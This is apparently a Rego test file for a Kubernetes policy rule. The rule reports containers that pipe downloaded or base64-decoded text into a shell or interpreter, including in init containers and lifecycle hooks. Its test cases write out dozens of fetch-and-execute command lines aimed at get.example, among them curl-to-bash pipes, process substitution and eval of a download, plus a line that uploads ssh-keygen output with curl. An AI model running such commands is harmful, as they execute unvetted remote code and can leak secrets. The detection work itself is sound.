package rules.downloaded_commands_test

import data.lib.testing
import data.rules.downloaded_commands

violations(object) := found if {
	found := downloaded_commands.violation with input as testing.review(object, {})
}

pod(fields) := testing.pod({"containers": [object.union({"name": "web"}, fields)]})

messages(text) := testing.messages(violations(pod({"command": ["sh", "-c", text]})))

test_a_download_in_a_pipe_to_a_shell_is_reported_at_its_word if {
	violations(pod({"command": ["sh", "-c"], "args": ["curl -fsSL https://get.example/x | sh"]})) == {{
		"msg": "container `web` pipes a download into an interpreter",
		"details": {"path": ["spec", "containers", 0, "args", 0]},
	}}
}

test_downloads_in_pipes if {
	every text in [
		"curl https://get.example | bash",
		"curl \"https://get.example/?a=1&b=2\" | bash",
		"wget -qO- https://get.example|sh",
		"set -e; /usr/bin/curl -s https://get.example 2>&1 | /bin/sh; web",
		"curl -s https://get.example | gunzip | bash -s -- --version 1",
		"curl -s https://get.example | tee /tmp/x.sh | bash -ex",
		"curl -s https://get.example | bash -euo pipefail",
		"curl -s https://get.example \\\n  | sudo -E bash -",
		"curl -s https://get.example |\n  env A=1 sh >/dev/null",
		"curl -s https://get.example | sh 2>/dev/null",
		"curl -s https://get.example | sh # install",
		"(curl -s https://get.example || wget -qO- https://get.example) | sh",
		"if curl -s https://get.example | sh; then web; fi",
		"curl -s https://get.example | bash /dev/stdin --version 1",
		"curl -sSL https://get.example | python3 -",
		"curl -sSL https://get.example | perl",
		"curl -sSL https://get.example | node -",
		"curl -sSL https://get.example | php",
		"curl -sSL https://get.example | /usr/bin/ruby",
		"curl -sSL https://get.example | nohup exec sh",
		"curl -s https://get.example |& sh",
	] {
		messages(text) == {"container `web` pipes a download into an interpreter"}
	}
}

test_decoded_commands if {
	every text in [
		"echo aWQ= | base64 -d | sh",
		"echo aWQ= | base64 --decode | bash",
		"base64 -D < /x | bash",
		"echo 'aWQ=' | base64 -i -d | sudo sh",
	] {
		messages(text) == {"container `web` pipes what it decodes from base64 into an interpreter"}
	}
}

test_substituted_files if {
	every text in [
		"bash <(curl -s https://get.example)",
		"bash -x <(curl -s https://get.example) --version 1",
		"a; source <(wget -qO- https://get.example)",
		". <(curl -s https://get.example)",
		"bash <(echo aWQ= | base64 -d)",
	] {
		messages(text) == {"container `web` runs downloaded or decoded text as a script"}
	}
}

test_substituted_commands if {
	every text in [
		"sh -c \"$(curl -fsSL https://get.example)\"",
		"a && /bin/bash -ec \"$(wget -qO- https://get.example)\"",
		"bash -c \"`curl https://get.example`\"",
		"eval \"$(curl https://get.example)\"",
		"eval $(echo aWQ= | base64 -d)",
		"$(curl -s https://get.example)",
		"\"$(curl -s https://get.example)\"",
	] {
		messages(text) == {"container `web` runs downloaded or decoded text as a script"}
	}
}

test_each_word_is_reported_once if {
	count(violations(pod({"args": ["curl x | sh; echo | base64 -d | sh", "bash <(curl x)"]}))) == 2
}

test_other_downloads_pass if {
	every text in [
		"curl -s https://get.example -o /tmp/x",
		"curl -s https://get.example | tar xz",
		"curl -s https://get.example | grep ok && sh run.sh",
		"curl -s https://get.example || sh run.sh",
		"curl -s https://get.example; sh",
		"curl -s https://get.example & sh",
		"curl -s https://get.example\nsh",
		"curl -s https://get.example | sh run.sh",
		"curl -s https://get.example | sh -c 'cat'",
		"curl -s https://get.example | bash run.sh\nls -s",
		"curl -s https://get.example | python3 -m json.tool",
		"curl -s https://get.example | python3 -c 'import json'",
		"curl -s https://get.example | jq .sh",
		"curl -s https://get.example | kubectl apply -f -",
		"kubectl apply -f <(curl -s https://get.example)",
		"diff <(curl -s https://a.example) <(curl -s https://b.example)",
		"until $(curl -so /dev/null https://a.example); do sleep 1; done",
		"x=$(curl -s https://get.example); sh -c \"$x\"",
		"sh -c \"$(cat x)\"; curl https://a.example",
		"echo aWQ= | base64 -d > /tmp/x",
		"echo x | base64 | sh",
		"echo 'curl https://get.example | sh'",
		"# curl https://get.example | sh\nweb",
		"cat > x <<EOF\ncurl https://get.example | sh\nEOF",
		"apk add curl bash",
		"ssh-keygen | curl -T - https://a.example",
	] {
		messages(text) == set()
	}
}

test_probes_and_hooks_are_looked_at if {
	command := ["sh", "-c", "curl https://get.example | sh"]
	found := violations(pod({"lifecycle": {"postStart": {"exec": {"command": command}}}}))
	testing.paths(found) == {["spec", "containers", 0, "lifecycle", "postStart", "exec", "command", 2]}
}

test_every_list_of_containers_is_looked_at if {
	every list in ["initContainers", "ephemeralContainers"] {
		object := testing.pod({list: [{"name": "web", "args": ["curl x | sh"]}]})
		testing.paths(violations(object)) == {["spec", list, 0, "args", 0]}
	}
}

test_every_kind_of_workload_is_looked_at if {
	every object in testing.workloads({"containers": [{"name": "web", "args": ["curl x | sh"]}]}) {
		count(violations(object)) == 1
	}
}

test_absent_null_and_wrong_types_pass if {
	every value in array.concat(testing.not_objects, ["curl x | sh", [1, null, ["curl x | sh"]], {"a": "curl x | sh"}]) {
		violations(pod({"command": value, "args": value})) == set()
	}
	every object in testing.broken_pods { violations(object) == set() }
}
